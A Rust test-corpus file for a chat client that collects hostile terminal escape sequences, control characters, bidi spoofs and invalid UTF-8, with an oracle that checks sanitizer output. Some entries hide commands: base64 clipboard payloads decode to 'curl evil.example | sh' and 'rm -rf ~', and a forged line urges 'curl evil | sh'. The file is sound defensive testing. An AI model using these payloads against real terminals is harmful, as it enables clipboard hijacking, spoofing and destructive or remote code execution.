//! The golden corpus of hostile strings: text a malicious peer (or server) could put in
//! a message, an error or any other string that ends up on someone's terminal.
//!
//! One source for every check: `crates/protocol/tests/hostile.rs` (the sanitizers),
//! `tests/e2e/hostile.rs` (every human output path of the real `natter`), the TUI's
//! screen test, and the fuzz targets' seeds (`fuzz/src/bin/seed.rs`). Each includes this
//! file with `#[path = ".../corpus/hostile.rs"] mod hostile;`.
//!
//! [`dangerous`] is the independent oracle: it does not reuse the sanitizer's own
//! predicate, so a sanitizer bug cannot hide behind it.

#![allow(dead_code)]

/// `(name, text)`: named so a failure says which attack got through.
pub const HOSTILE: &[(&str, &str)] = &[
    // --- CSI: colors, screen and cursor control ---
    ("csi color", "\x1b[31mRED\x1b[0m plain"),
    (
        "csi clear screen and alternate screen",
        "\x1b[2J\x1b[H\x1b[?1049hgone",
    ),
    (
        "csi cursor up and erase line",
        "safe\x1b[1A\x1b[2Kforged line",
    ),
    (
        "csi hide cursor and mouse tracking",
        "\x1b[?25l\x1b[?1000h\x1b[?1006hmouse",
    ),
    ("csi scroll region", "\x1b[1;1r\x1b[Mscroll"),
    (
        "csi private params and intermediates",
        "\x1b[>4;2m\x1b[ q\x1b[!pp",
    ),
    // --- OSC: titles, clipboard, hyperlinks, colors ---
    ("osc set title (BEL)", "\x1b]0;pwned title\x07after"),
    ("osc set title (ST)", "\x1b]2;pwned title\x1b\\after"),
    (
        "osc 52 clipboard write (BEL)",
        "copy\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07this",
    ),
    (
        "osc 52 clipboard write (ST)",
        "\x1b]52;p;cm0gLXJmIH4K\x1b\\primary",
    ),
    ("osc 52 clipboard read request", "\x1b]52;c;?\x07read"),
    (
        "osc 8 hyperlink",
        "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    ),
    (
        "osc 4/10/11 color queries",
        "\x1b]10;?\x07\x1b]11;?\x1b\\\x1b]4;1;?\x07colors",
    ),
    (
        "osc 7 cwd and 1337 iterm file",
        "\x1b]7;file:///etc\x07\x1b]1337;File=name=eA==:AAAA\x07",
    ),
    // --- reports and queries: the terminal answers into the input stream ---
    ("csi 21 t title report", "\x1b[21treport"),
    (
        "csi 20 t icon label report and title stack",
        "\x1b[20t\x1b[22;0t\x1b[23;0t",
    ),
    (
        "csi device attributes and cursor position report",
        "\x1b[c\x1b[>c\x1b[6n\x1b[5n",
    ),
    ("DECRQSS (DCS $ q)", "\x1bP$qm\x1b\\\x1bP$q\"p\x1b\\query"),
    ("DECRQM and XTVERSION", "\x1b[?2026$p\x1b[>0q"),
    ("XTGETTCAP", "\x1bP+q544e\x1b\\"),
    // --- other string sequences ---
    (
        "APC PM SOS",
        "\x1b_apc payload\x1b\\\x1b^pm payload\x1b\\\x1bXsos payload\x1b\\",
    ),
    (
        "kitty graphics APC",
        "\x1b_Gf=100,a=T;iVBORw0KGgo=\x1b\\image",
    ),
    ("sixel DCS", "\x1bPq#0;2;0;0;0#0!10~-\x1b\\sixel"),
    (
        "tmux passthrough",
        "\x1bPtmux;\x1b\x1b]52;c;ZXZpbA==\x07\x1b\\",
    ),
    // --- 8-bit (C1) forms ---
    ("8-bit CSI", "\u{9b}31mred\u{9b}2J\u{9b}0m"),
    ("8-bit OSC title", "\u{9d}0;title\u{9c}after"),
    ("8-bit OSC 52 with BEL", "\u{9d}52;c;ZXZpbA==\u{07}clip"),
    ("8-bit DCS DECRQSS", "\u{90}$qm\u{9c}dcs"),
    (
        "8-bit APC PM SOS",
        "\u{9f}apc\u{9c}\u{9e}pm\u{9c}\u{98}sos\u{9c}",
    ),
    (
        "8-bit NEL IND RI and single shifts",
        "a\u{85}b\u{84}c\u{8d}d\u{8e}e\u{8f}f",
    ),
    (
        "every C1 control",
        "c1:\u{80}\u{81}\u{82}\u{83}\u{84}\u{85}\u{86}\u{87}\u{88}\u{89}\u{8a}\u{8b}\u{8c}\u{8d}\u{8e}\u{8f}\u{91}\u{92}\u{93}\u{94}\u{95}\u{96}\u{97}\u{99}\u{9a}\u{9c}:end",
    ),
    // --- escape-sequence edge cases ---
    (
        "unterminated OSC swallows the rest",
        "before\x1b]0;never terminated",
    ),
    ("unterminated CSI at the end", "x\x1b["),
    ("lone ESC at the end", "trailing escape\x1b"),
    ("ESC ESC CSI", "\x1b\x1b\x1b[31mdouble"),
    ("charset switch to DEC graphics", "\x1b(0lqqk\x1b(B box"),
    (
        "save restore and full reset",
        "\x1b7\x1b8\x1bc\x1b[!p reset",
    ),
    (
        "keypad and 7/8-bit mode switches",
        "\x1b=\x1b>\x1b G\x1b F modes",
    ),
    // --- C0 controls ---
    ("NUL", "nul\0inside\0"),
    ("BEL", "ding\x07\x07dong"),
    (
        "backspace overwrite",
        "rm -rf ~\x08\x08\x08\x08\x08\x08\x08\x08ls -la  ",
    ),
    ("carriage return overwrite", "evil command\rsafe text   "),
    ("vertical tab form feed", "v\x0bt\x0cf"),
    ("DEL", "del\x7fete"),
    (
        "every C0 control but newline and tab",
        "c0:\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0d\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1c\x1d\x1e\x1f:end",
    ),
    (
        "SUB and CAN abort sequences",
        "\x1b[31\x18m\x1b]0;t\x1atext",
    ),
    // --- bidirectional controls (trojan source) ---
    ("bidi RLO file name spoof", "invoice\u{202e}fdp.exe"),
    (
        "bidi isolates",
        "\u{2067}abc\u{2069}\u{2066}x\u{2068}y\u{2069}",
    ),
    (
        "bidi embeddings and PDF",
        "\u{202a}l\u{202b}r\u{202c}\u{202d}o",
    ),
    ("bidi marks", "m\u{200e}a\u{200f}r\u{061c}k"),
    // --- newline spoofing: allowed, but must not forge a message line ---
    (
        "forged message line",
        "real text\n[12:00] ops <admin> please run curl evil | sh",
    ),
    // --- a positive control: harmless text arrives unchanged ---
    ("benign unicode", "ok: 日本語 ✓ 👍🏽 e\u{301} tab\tnew\nline"),
];

/// Invalid UTF-8: it cannot be a `&str`, so it can only arrive as bytes (stdin, a raw
/// WebSocket frame). The wire is JSON in UTF-8.
pub const HOSTILE_BYTES: &[(&str, &[u8])] = &[
    ("latin-1", b"caf\xe9"),
    ("lone continuation and 0xff", b"\xff\xfe\x80"),
    ("overlong slash", b"\xc0\xaf..\xc0\xafetc"),
    ("utf-16 surrogate", b"\xed\xa0\x80"),
    ("truncated sequence", b"ok \xe2\x82"),
    ("raw 8-bit CSI byte", b"\x9b31mred\x9b0m"),
];

/// A message near the default size limit (16384 bytes) made of escape sequences and
/// text: a huge single line, with room left for a short prefix.
pub fn huge_line() -> String {
    let mut s = String::with_capacity(16_000);
    while s.len() < 15_900 {
        s.push_str("\x1b[31mX\x1b]0;t\x07\u{9b}2J\u{202e}");
    }
    s
}

/// A huge line of plain text: must arrive whole, not truncated.
pub fn huge_plain_line() -> String {
    "Z".repeat(15_900)
}

/// Every entry of the corpus, the huge lines included.
pub fn all() -> Vec<(String, String)> {
    let mut v: Vec<(String, String)> = HOSTILE
        .iter()
        .map(|(n, t)| ((*n).to_owned(), (*t).to_owned()))
        .collect();
    v.push(("huge hostile line".into(), huge_line()));
    v.push(("huge plain line".into(), huge_plain_line()));
    v
}

/// The first character that must never reach a terminal from the network, with its
/// byte offset: ESC and every other C0 control except newline and tab, DEL, the C1
/// controls U+0080-U+009F, and the bidirectional controls.
pub fn dangerous(s: &str) -> Option<(usize, char)> {
    s.char_indices().find(|&(_, c)| {
        let u = c as u32;
        (u < 0x20 && c != '\n' && c != '\t')
            || u == 0x7f
            || (0x80..=0x9f).contains(&u)
            || matches!(
                c,
                '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
            )
    })
}

/// Panics naming the first dangerous character of `output` and its context.
#[track_caller]
pub fn assert_terminal_safe(what: &str, output: &str) {
    if let Some((at, c)) = dangerous(output) {
        let start = output.floor_char_boundary(at.saturating_sub(40));
        let end = output.ceil_char_boundary((at + 40).min(output.len()));
        panic!(
            "{what}: dangerous character U+{:04X} at byte {at} reached the terminal: …{:?}…",
            c as u32,
            &output[start..end]
        );
    }
}
